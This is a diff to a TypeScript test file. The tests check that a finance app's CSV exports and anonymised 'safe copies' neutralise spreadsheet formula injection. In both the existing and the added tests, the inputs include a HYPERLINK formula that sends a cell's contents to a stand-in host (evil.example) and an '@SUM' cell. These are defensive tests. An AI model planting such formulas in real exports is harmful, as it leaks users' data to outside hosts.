@@ -2,7 +2,11 @@
  * CSV files people open in a spreadsheet (account reports, safe copies) never carry a cell a
  * spreadsheet would run as a formula (OWASP "CSV Injection"), and numbers stay numbers.
  */
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { anonymiseFile } from '../src/anonymise/index.js';
 import { accountReportCsv, type AccountReport } from '../src/accounts/index.js';
 import { spreadsheetSafeField, splitCsvLine } from '../src/data/csv.js';
 
@@ -54,5 +58,36 @@ describe('accountReportCsv', () => {
     expect(cells[0]).toBe(`'=HYPERLINK("http://evil.example/?"&A2,"details")`);
     expect(cells.at(-1)).toBe("'-look here");
     expect(cells.every((c) => !/^[=+\-@\t\r]/.test(c) || /^-?\d/.test(c))).toBe(true);
+  });
+});
+
+describe('anonymiseFile (the safe copy)', () => {
+  it('writes a kept text column that starts like a formula as text', async () => {
+    const dir = mkdtempSync(path.join(tmpdir(), 'finsecure-csv-safe-'));
+    try {
+      const input = path.join(dir, 'tx.csv');
+      const output = path.join(dir, 'safe.csv');
+      writeFileSync(
+        input,
+        [
+          'transaction_id,amount,merchant',
+          'T1,12.50,"=HYPERLINK(""http://evil.example/?""&A2,""details"")"',
+          'T2,-3.25,@SUM(A1)',
+          'T3,7,Grocer',
+        ].join('\n') + '\n',
+      );
+      await anonymiseFile({
+        input,
+        output,
+        key: Buffer.alloc(32, 7),
+        mapping: { columns: { merchant: 'keep' } },
+      });
+      const lines = readFileSync(output, 'utf8').trim().split('\n');
+      const fields: string[] = [];
+      const merchants = lines.slice(1).map((l) => fields.slice(0, splitCsvLine(l, fields)).at(-1));
+      expect(merchants).toEqual([`'=HYPERLINK("http://evil.example/?"&A2,"details")`, "'@SUM(A1)", 'Grocer']);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
   });
 });
